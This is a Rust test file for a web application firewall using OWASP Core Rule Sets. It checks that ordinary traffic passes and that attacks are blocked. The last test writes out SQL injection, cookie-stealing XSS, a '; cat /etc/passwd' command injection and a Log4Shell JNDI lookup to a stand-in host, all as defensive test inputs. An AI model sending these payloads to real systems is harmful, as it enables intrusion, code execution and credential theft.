//! Ordinary traffic is not refused: every request of `tests/corpus` at paranoia level 1, under the Core Rule Sets that are here.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use mcsp_edge_waf::{
    AuditEvent, Environment, Limits, MonotonicTicks, Outcome, RulesConfig, Site, SiteRules,
    Transaction, WafConfig,
};
use serde::Deserialize;

use crate::support::{client, environment};
use crate::{crs, own};

#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
struct Request {
    #[serde(default = "get")]
    method: String,
    target: String,
    #[serde(default)]
    headers: BTreeMap<String, String>,
    json: Option<serde_json::Value>,
    body: Option<String>,
}

fn get() -> String {
    "GET".to_owned()
}

/// What a browser sends unless a request says otherwise.
const USUAL: [(&str, &str); 8] = [
    ("Host", "media.example.org"),
    (
        "User-Agent",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36",
    ),
    ("Accept", "*/*"),
    ("Accept-Language", "yo-NG,yo;q=0.9,en-GB;q=0.8,en;q=0.7"),
    ("Accept-Encoding", "gzip, deflate, br, zstd"),
    ("Referer", "https://media.example.org/"),
    (
        "sec-ch-ua",
        "\"Not(A:Brand\";v=\"8\", \"Chromium\";v=\"138\"",
    ),
    ("Sec-Fetch-Site", "same-origin"),
];

const BOUNDARY: &str = "----WebKitFormBoundary7MA4YWxkTrZu0gW";

impl Request {
    fn new(method: &str, target: String, content_type: Option<&str>, body: Option<String>) -> Self {
        let headers = content_type.map(|value| ("Content-Type".to_owned(), value.to_owned()));
        Self {
            method: method.to_owned(),
            target,
            headers: headers.into_iter().collect(),
            json: None,
            body,
        }
    }

    /// A text in all places that take words.
    fn with_text(text: &str) -> Vec<Self> {
        let escaped = urlencode(text);
        let json = |target: &str, method: &str, value: serde_json::Value| Self {
            json: Some(value),
            ..Self::new(method, target.to_owned(), None, None)
        };
        let item = "/api/v1/content/c_ng_01k9x3m5y8q2v7r4t6w1z0a3bc";
        let form = "application/x-www-form-urlencoded";
        vec![
            Self::new(
                "GET",
                format!("/search?q={escaped}&page=2&sort=newest"),
                None,
                None,
            ),
            Self::new(
                "POST",
                "/comments".to_owned(),
                Some(form),
                Some(format!("item=c_ng_01&text={escaped}&send=Send")),
            ),
            json(
                item,
                "PATCH",
                serde_json::json!({"title": text, "description": format!("{text}\n\n{text}"), "tags": [text]}),
            ),
            json(
                "/api/v1/uploads/session",
                "POST",
                serde_json::json!({"file_name": format!("{text}.mp4"), "media_type": "VIDEO", "size_bytes": 1, "residency": null,
                    "metadata": {"title": text, "description": text, "language": "en", "category": "music", "tags": [], "visibility": "PUBLIC"}}),
            ),
            json(
                "/api/v1/auth/register",
                "POST",
                serde_json::json!({"display_name": text, "email": "a.b@example.org", "password": "x' or 1=1; -- ${HOME} <b>", "role": "viewer"}),
            ),
            Self::new(
                "POST",
                "/comments".to_owned(),
                Some(&format!("multipart/form-data; boundary={BOUNDARY}")),
                Some(format!(
                    "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"text\"\r\n\r\n{text}\r\n--{BOUNDARY}\r\n\
                     Content-Disposition: form-data; name=\"still\"; filename=\"still-12.jpg\"\r\nContent-Type: image/jpeg\r\n\r\nbytes\r\n--{BOUNDARY}--\r\n"
                )),
            ),
        ]
    }

    fn fields(&self, body: Option<&str>) -> Vec<(String, String)> {
        let is_said = |name: &str| {
            self.headers
                .keys()
                .any(|known| known.eq_ignore_ascii_case(name))
        };
        let mut fields: Vec<(String, String)> = USUAL
            .iter()
            .filter(|(name, _)| !is_said(name))
            .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
            .collect();
        fields.extend(self.headers.clone());
        if self.json.is_some() {
            fields.push(("Content-Type".to_owned(), "application/json".to_owned()));
        }
        let has_length =
            body.is_some() || !matches!(self.method.as_str(), "GET" | "HEAD" | "OPTIONS");
        if has_length {
            fields.push((
                "Content-Length".to_owned(),
                body.map_or(0, str::len).to_string(),
            ));
        }
        fields
    }

    /// What was said against it, if it was refused.
    fn refusal(&self, site: &SiteRules, environment: &Arc<Environment>) -> Option<AuditEvent> {
        let body = self
            .json
            .as_ref()
            .map(ToString::to_string)
            .or_else(|| self.body.clone());
        let first = self.target.split('/').nth(1).unwrap_or_default();
        let mut transaction = Transaction::under(site.policy(first), environment, client());
        transaction.request_line(self.method.as_bytes(), self.target.as_bytes(), b"HTTP/1.1");
        for (name, value) in self.fields(body.as_deref()) {
            transaction.request_header(name.as_bytes(), value.as_bytes());
        }
        let mut passes = transaction.request_head_done() == Outcome::Pass;
        transaction.request_body(body.unwrap_or_default().as_bytes());
        passes &= transaction.request_body_done() == Outcome::Pass;
        let event = transaction.finish();
        assert!(
            event.as_ref().is_none_or(|event| !event.overrun),
            "{self:?}"
        );
        (!passes).then(|| event.expect("an event of a refusal"))
    }
}

fn urlencode(text: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_.~".contains(&byte);
    text.bytes()
        .map(|byte| match byte {
            b' ' => "+".to_owned(),
            byte if plain(byte) => char::from(byte).to_string(),
            byte => format!("%{byte:02X}"),
        })
        .collect()
}

fn corpus() -> Vec<Request> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpus");
    let read = |path: PathBuf| std::fs::read_to_string(path).expect("a file of the corpus");
    let mut requests: Vec<Request> = read(folder.join("requests.jsonl"))
        .lines()
        .map(|line| serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line}")))
        .collect();
    let texts = std::fs::read_dir(folder.join("text"))
        .expect("the corpus")
        .flatten();
    for file in texts {
        let text = read(file.path());
        requests.extend(text.lines().flat_map(Request::with_text));
    }
    requests
}

/// The rules as a node has them by default.
fn site(folder: &Path) -> Arc<SiteRules> {
    let site = Site::new(WafConfig {
        rules: RulesConfig {
            files: vec![folder.to_path_buf()],
            ..RulesConfig::default()
        },
        ..WafConfig::default()
    });
    site.load(&MonotonicTicks::default())
        .expect("the rules load");
    site.current().expect("rules")
}

/// Rules of 3.3 that refuse these texts by what they look for; 4.x looks closer. `(rule, part of the request)`.
const REFUSED_BY_33: [(u64, &str); 4] = [
    (932_150, "java"),
    (942_190, "Union"),
    (942_230, "having"),
    // UTF-8 of Cyrillic letters, read as the ASCII of another country.
    (941_310, "Привет"),
];

fn is_known(folder: &Path, request: &Request, event: &AuditEvent) -> bool {
    let text = format!("{} {:?} {:?}", request.target, request.json, request.body);
    crs::is_debians(folder)
        && REFUSED_BY_33.iter().any(|(rule, part)| {
            event.matches.iter().any(|found| found.id == *rule) && text.contains(part)
        })
}

/// What stands beside attacks and is harmless is not refused either, by any rules.
#[test]
fn the_neighbours_of_attacks_are_not_refused() {
    let environment = environment(Limits {
        budget_us: 1_000_000,
        ..Limits::default()
    });
    let mut refused = Vec::new();
    for folder in crs::folders() {
        let site = site(&folder);
        for (title, request) in own::harmless() {
            let request: Request = serde_json::from_value(request).expect("a request");
            if let Some(event) = request.refusal(&site, &environment) {
                let ids = event.matches.iter().map(|found| found.id);
                refused.push((folder.clone(), title, ids.collect::<Vec<_>>()));
            }
        }
    }
    assert!(refused.is_empty(), "{refused:#?}");
}

#[test]
fn ordinary_traffic_is_not_refused() {
    let requests = corpus();
    assert!(requests.len() >= 1000, "{} requests", requests.len());
    let environment = environment(Limits {
        budget_us: 1_000_000,
        ..Limits::default()
    });
    for folder in crs::folders() {
        let site = site(&folder);
        let refused: Vec<String> = requests
            .iter()
            .filter_map(|request| Some((request, request.refusal(&site, &environment)?)))
            .filter(|(request, event)| !is_known(&folder, request, event))
            .map(|(request, event)| {
                let rules: Vec<String> = event
                    .matches
                    .iter()
                    .map(|found| format!("{} {} {}", found.id, found.variable, found.data))
                    .collect();
                format!(
                    "{} {} {:?}{:?}: {rules:#?}",
                    request.method,
                    request.target,
                    request.json.as_ref().map(ToString::to_string),
                    request.body
                )
            })
            .collect();
        assert!(
            refused.is_empty(),
            "{}: {} of {} refused\n{}",
            folder.display(),
            refused.len(),
            requests.len(),
            refused.join("\n")
        );
    }
}

#[test]
fn what_is_no_ordinary_traffic_is_refused() {
    let environment = environment(Limits {
        budget_us: 1_000_000,
        ..Limits::default()
    });
    for folder in crs::folders() {
        let site = site(&folder);
        for text in [
            "' OR 1=1 -- ",
            "<script>alert(document.cookie)</script>",
            "; cat /etc/passwd",
            "${jndi:ldap://x.example.org/a}",
        ] {
            for request in Request::with_text(text) {
                assert!(
                    request.refusal(&site, &environment).is_some(),
                    "{text}: {request:?}"
                );
            }
        }
    }
}
